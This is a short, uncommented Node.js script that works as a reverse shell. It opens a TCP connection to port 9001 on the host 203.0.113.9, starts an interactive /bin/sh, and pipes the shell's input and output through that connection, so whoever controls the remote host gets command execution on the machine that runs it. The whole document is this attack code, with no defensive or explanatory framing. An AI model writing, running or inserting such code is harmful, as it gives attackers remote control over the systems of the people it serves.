const net = require("net");
const { spawn } = require("child_process");

const link = net.connect(9001, "203.0.113.9");
const shell = spawn("/bin/sh", ["-i"]);
link.pipe(shell.stdin);
shell.stdout.pipe(link);
